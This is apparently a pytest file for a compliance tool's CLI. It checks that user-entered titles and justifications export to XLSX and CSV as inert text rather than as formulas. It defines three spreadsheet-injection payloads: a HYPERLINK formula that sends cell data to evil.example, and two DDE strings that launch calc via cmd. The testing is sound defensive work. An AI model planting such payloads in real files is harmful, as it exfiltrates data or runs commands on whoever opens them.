"""A title a control owner typed never runs as a formula in any export an auditor opens:
every XLSX writes it as text, every CSV puts an apostrophe before it (OWASP's advice)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from tests.cli.conftest import Run

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
RISK = "+1+cmd|' /C calc'!A0"


def _xlsx_cells(path: Path) -> list[tuple[object, str]]:
    workbook = load_workbook(path)
    return [
        (cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def test_every_export_keeps_hostile_text_inert(northwind: Path, run: Run) -> None:
    assert run("controls", "edit", "NW-AC-04", "--title", HOSTILE, "--owner", OWNER).exit_code == 0
    assert run("risks", "edit", "R-01", "--title", RISK).exit_code == 0
    assert run("soa", "set", "A.5.1", "--applicable", "--justification", HOSTILE).exit_code == 0
    workbooks = {
        "gap": ["gap", "--format", "xlsx", "-o"],
        "plan": ["plan", "--format", "xlsx", "-o"],
        "window": [
            "window",
            "--start",
            "2026-01-01",
            "--end",
            "2026-06-30",
            "--format",
            "xlsx",
            "-o",
        ],
        "soa": ["soa", "export", "--format", "xlsx", "-o"],
        "risks": ["risks", "treatment-plan", "--format", "xlsx", "-o"],
    }
    for name, command in workbooks.items():
        path = northwind / f"{name}.xlsx"
        result = run(*command, str(path))
        # window exits 1 when the window has exceptions: the report is written either way
        assert result.exit_code in (0, 1) and path.exists(), (name, result.stderr)
        cells = _xlsx_cells(path)
        assert not [c for c in cells if c[1] == "f"], f"{name}: a formula cell"
        texts = [str(value) for value, _type in cells if isinstance(value, str)]
        assert any(HOSTILE in t or RISK in t or OWNER in t for t in texts), name

    listed = run("controls", "list", "--format", "csv")
    assert listed.exit_code == 0
    rows = list(csv.reader(io.StringIO(listed.stdout)))
    assert [rows[i][j] for i, j in _where(rows, HOSTILE, OWNER)] == ["'" + HOSTILE, "'" + OWNER]
    for row in rows:
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _where(rows: list[list[str]], *texts: str) -> list[tuple[int, int]]:
    return [
        (i, j)
        for text in texts
        for i, row in enumerate(rows)
        for j, cell in enumerate(row)
        if cell == "'" + text
    ]
